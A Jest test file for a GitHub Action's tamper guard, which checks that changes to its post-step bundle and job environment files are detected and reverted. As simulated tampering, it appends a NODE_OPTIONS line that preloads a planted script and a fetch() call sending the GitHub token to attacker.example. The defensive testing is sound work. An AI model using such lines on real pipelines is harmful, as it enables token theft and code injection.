/**
 * The second line behind the fence for the job's files: what a run appended to the post bundle,
 * GITHUB_ENV or GITHUB_PATH is written back to the original and reported; the post step refuses to
 * act on its state when its own file is not the one main recorded. Real files in a temp folder.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { appendFileSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { guardFile, verifyBundle } from '../../src/action/bundle-guard.js';

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'saboteur-guard-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('the job files guard', () => {
  it('says nothing when the file is as it was', () => {
    const file = path.join(dir, 'post.js');
    writeFileSync(file, 'console.log("post");\n');
    expect(guardFile(file)!.check()).toBeUndefined();
  });

  it('writes back what a run appended, and says so', () => {
    const file = path.join(dir, 'set_env');
    writeFileSync(file, 'A=1\n');
    const guard = guardFile(file)!;
    appendFileSync(file, 'NODE_OPTIONS=--require=/tmp/planted.js\n');
    expect(guard.check()).toMatch(/set_env changed during the run \(SHA-256 .*\); the original was written back$/);
    expect(readFileSync(file, 'utf8')).toBe('A=1\n');
    unlinkSync(file);
    expect(guard.check()).toMatch(/was removed during the run; the original was written back$/);
    expect(readFileSync(file, 'utf8')).toBe('A=1\n');
  });

  it('guards nothing where there is no file (the action not run from its bundle)', () => {
    expect(guardFile(path.join(dir, 'missing.js'))).toBeUndefined();
  });

  it('the post step checks its own file against the hash main recorded', () => {
    const file = path.join(dir, 'post-2.js');
    writeFileSync(file, 'console.log("post");\n');
    const state = JSON.stringify(guardFile(file)!.recorded);
    expect(verifyBundle(file, state)).toBeUndefined();
    expect(verifyBundle(file, '')).toBeUndefined();
    appendFileSync(file, 'fetch("https://attacker.example/?t=" + process.env["INPUT_GITHUB-TOKEN"]);\n');
    expect(verifyBundle(file, state)).toMatch(/post-2\.js is not the bundle the main step started with/);
    expect(verifyBundle(file, '{nope')).toMatch(/is not JSON/);
  });
});
